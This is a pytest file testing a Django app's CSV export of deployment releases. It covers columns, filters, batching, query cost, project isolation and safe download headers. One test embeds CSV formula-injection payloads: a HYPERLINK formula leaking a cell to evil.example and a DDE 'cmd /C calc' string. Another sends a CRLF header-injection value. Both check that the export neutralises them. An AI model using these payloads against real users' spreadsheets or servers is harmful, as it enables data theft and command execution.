"""The releases list as a CSV file: the rows of all its pages, nothing that is run, constant cost."""

import csv
from datetime import timedelta
from io import StringIO

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext

from releases.models import Release
from releases.queries import releases_export
from releases.queries.cells import told
from releases.queries.filters import Filters
from releases.queries.releases_export import COLUMNS
from releases.states import Role, TriggerKind
from tests import factories
from tests.factories import NOON
from tests.pages.company import carrying, company, deployed
from tests.pages.reading import words

pytestmark = pytest.mark.django_db


def rows(response):
    """The file's lines as dictionaries, their cells as they were before they were made harmless."""
    assert response.status_code == 200
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    return [{name: told(cell) for name, cell in row.items()} for row in csv.DictReader(StringIO(text, newline=""))]


def test_the_file_tells_of_each_release_what_the_list_shows(signed_in):
    made = company()
    newest, oldest = rows(signed_in.get("/releases/export.csv"))
    assert list(newest) == list(COLUMNS)
    assert {name: newest[name] for name in ("release", "pipeline", "trigger", "cause", "created_on")} == {
        "release": "Release-2",
        "pipeline": "Port Weather ML Pipeline",
        "trigger": "model",
        "cause": "Model v8",
        "created_on": "2026-03-03T12:00:00Z",
    }
    assert (newest["models"], newest["scalers"]) == ("support-vector-classifier v8", "scaler v1")
    assert newest["stages"] == "DEV TEST: succeeded; PROD: waiting"
    assert (newest["live_in"], oldest["live_in"]) == ("DEV TEST", "PROD")
    assert newest["azure_id"] == str(made.waiting.azure_id)
    assert newest["web_url"].endswith(f"_release?releaseId={made.waiting.azure_id}&_a=release-summary")


@pytest.mark.parametrize(
    "query", ["", "trigger=model", "state=waiting", "model=support-vector-classifier:7", "trigger=push"]
)
def test_the_file_has_the_rows_of_the_filtered_list(signed_in, query):
    company()
    shown = signed_in.get(f"/releases/?{query}").context["page"]
    found = rows(signed_in.get(f"/releases/export.csv?{query}"))
    assert [row["release"] for row in found] == [row.release.name for row in shown.rows]
    assert len(found) == shown.count


def many(number):
    """So many releases of one pipeline, several of them made at the same moment."""
    pipeline = factories.pipeline()
    for at in range(number):
        factories.release(pipeline=pipeline, name=f"R-{at}", created_on=NOON + timedelta(minutes=at // 3))


def test_all_pages_are_in_it_whichever_page_is_shown_and_each_row_once(signed_in, monkeypatch):
    many(23)
    monkeypatch.setattr(releases_export, "BATCH", 5)
    page = signed_in.get("/releases/").context["page"]
    cursor = page.rows and "&before=1.1"
    found = [row["release"] for row in rows(signed_in.get(f"/releases/export.csv?{cursor}"))]
    assert found == [f"R-{at}" for at in reversed(range(23))]
    assert len(found) == page.count


def test_the_cost_of_a_batch_does_not_grow_and_nothing_is_asked_before_it_is_needed(user, monkeypatch):
    monkeypatch.setattr(releases_export, "BATCH", 10)
    many(30)
    lines = releases_export.lines(user, filters=Filters())
    next(lines)
    costs = []
    for _ in range(3):
        with CaptureQueriesContext(connection) as asked:
            next(lines)
        costs.append(len(asked))
    assert costs == [costs[0]] * 3
    assert costs[0] <= 8
    assert list(lines) == []


def test_a_hostile_name_is_not_run_and_not_lost(signed_in):
    name = '=HYPERLINK("https://evil.example/?"&A1,"Release-1")'
    release = factories.release(name=name, created_by=factories.identity(name="+Ada"))
    release.pipeline.name = "＝cmd|'/C calc'!A0"
    release.pipeline.save()
    text = b"".join(signed_in.get("/releases/export.csv").streaming_content).decode("utf-8-sig")
    assert "\"'=HYPERLINK(" in text
    assert "\"'＝cmd" in text and '"\'+Ada"' in text
    [row] = rows(signed_in.get("/releases/export.csv"))
    assert (row["release"], row["created_by"]) == (name, "+Ada")


def test_the_file_is_saved_and_never_shown(signed_in):
    response = signed_in.get("/releases/export.csv?trigger=push%0d%0aX-Evil:1")
    response.close()
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    disposition = response["Content-Disposition"]
    assert disposition.startswith('attachment; filename="slipway-releases-2') and disposition.endswith('.csv"')
    assert response["X-Content-Type-Options"] == "nosniff"
    assert response["Content-Security-Policy"] == "default-src 'none'; frame-ancestors 'none'; sandbox"
    assert "no-store" in response["Cache-Control"]


def test_another_projects_releases_are_not_in_it():
    mine, other = company(), company(factories.project())
    client = factories.browser_of(factories.user(role=Role.AUDITOR, project=mine.project))
    assert {row["project"] for row in rows(client.get("/releases/export.csv"))} == {mine.project.slug}
    assert client.get(f"/releases/export.csv?pipeline={other.pipeline.pk}").status_code == 404


def test_the_list_leads_to_the_file_of_its_own_filters(signed_in):
    company()
    page = signed_in.get("/releases/?trigger=model&before=1.1").content.decode()
    assert 'href="/releases/export.csv?trigger=model"' in page
    assert "Export CSV" in words(page)


def test_a_thousand_releases_come_whole(signed_in):
    pipeline = factories.pipeline()
    stage = factories.stage(pipeline=pipeline)
    first = factories.release(pipeline=pipeline, trigger_kind=TriggerKind.MODEL)
    carrying(first, model=1)
    deployed(first, stage)
    Release.objects.bulk_create(
        Release(
            project=pipeline.project,
            pipeline=pipeline,
            azure_id=100_000 + at,
            name=f"B-{at}",
            status="active",
            created_on=NOON + timedelta(seconds=at),
            changed_at=NOON,
        )
        for at in range(999)
    )
    found = rows(signed_in.get("/releases/export.csv"))
    assert len(found) == signed_in.get("/releases/").context["page"].count == 1000
    assert len({row["azure_id"] for row in found}) == 1000
